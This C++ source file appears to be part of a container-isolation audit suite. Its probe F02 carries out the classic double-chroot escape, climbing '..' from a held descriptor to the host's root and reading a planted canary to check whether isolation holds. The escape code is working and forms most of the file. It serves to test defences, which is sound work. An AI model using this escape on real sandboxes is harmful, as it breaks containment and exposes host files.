// F02: the classic way out of a chroot. A directory descriptor is held, the root is moved below it by a second chroot, and
// from the descriptor ".." leads up without end. Stopped where the root is the root of the mount tree (pivot_root) or
// where chroot(2) is not permitted. Done in a child, so that the guest itself stays where it is.
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <fstream>

#include "audit/guest/share.h"
#include "audit/guest/tools.h"
#include "audit/probe.h"

namespace bulkhead::audit {
namespace {

Answer climb(const std::string& marker) {
  const std::string below = guest::share_directory + "/below";
  if (::mkdir(below.c_str(), 0700) < 0 && errno != EEXIST) return failed("mkdir(below)");
  const int held = ::open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (held < 0) return failed("open(/)");
  if (::chroot(below.c_str()) < 0) return failed(guest::blame("chroot(below)", 18));
  if (::fchdir(held) < 0) return failed("fchdir(held)");
  for (int i = 0; i < 64; ++i)
    if (::chdir("..") < 0) break;
  if (::chroot(".") < 0) return failed(guest::blame("chroot(.)", 18));
  const std::string text = guest::read_text(marker);
  return text.empty() ? failed("open(the host's marker)") : done(text);
}

Answer attack(const Words& words) {
  int ends[2];
  if (::pipe2(ends, O_CLOEXEC) < 0) return failed("pipe2()");
  const pid_t child = ::fork();
  if (child < 0) return failed("fork()");
  if (child == 0) {
    const Answer answer = climb(words.at(0));
    guest::write_text(ends[1], (answer.ok ? "1" : "0") + std::to_string(answer.error_number) + " " + answer.text);
    ::_exit(0);
  }
  ::close(ends[1]);
  char buffer[512];
  const ssize_t count = ::read(ends[0], buffer, sizeof buffer);
  ::close(ends[0]);
  ::waitpid(child, nullptr, 0);
  ::rmdir((guest::share_directory + "/below").c_str());
  const std::string text(buffer, count > 0 ? static_cast<size_t>(count) : 0);
  const size_t blank = text.find(' ');
  if (blank == std::string::npos) return failed("the climbing child ended", EIO);
  if (text[0] == '1') return done(text.substr(blank + 1));
  return failed(text.substr(blank + 1), guest::number(text.substr(1, blank - 1)));
}

Judgement run(Trial& trial) {
  const std::string marker = trial.host_scratch() + "/marker";
  std::ofstream(marker) << trial.canary();
  const Answer answer = trial.attacker("attack", {marker});
  ::unlink(marker.c_str());
  if (answer.ok && answer.text == trial.canary()) return reached("read a file of the host above the container's root");
  return answer.ok ? inconclusive("the attacker returned another text") : stopped(answer);
}

}  // namespace

extern const Probe f02_second_chroot;
const Probe f02_second_chroot{.id = "F02",
                              .name = "second chroot",
                              .requirement = Requirement::filesystem,
                              .goals = {AttackGoal::compromise},
                              .channel = Channel::storage,
                              .tries = "holds a directory, chroots below it, and climbs \"..\" to the host's root",
                              .reaching = "the host's whole tree is the attacker's",
                              .observer = "attacker returns a canary of the host",
                              .covers = {"filesystem/pivot-root", "privilege/capabilities"},
                              .parts = {{"attack", attack}},
                              .run = run};

}  // namespace bulkhead::audit
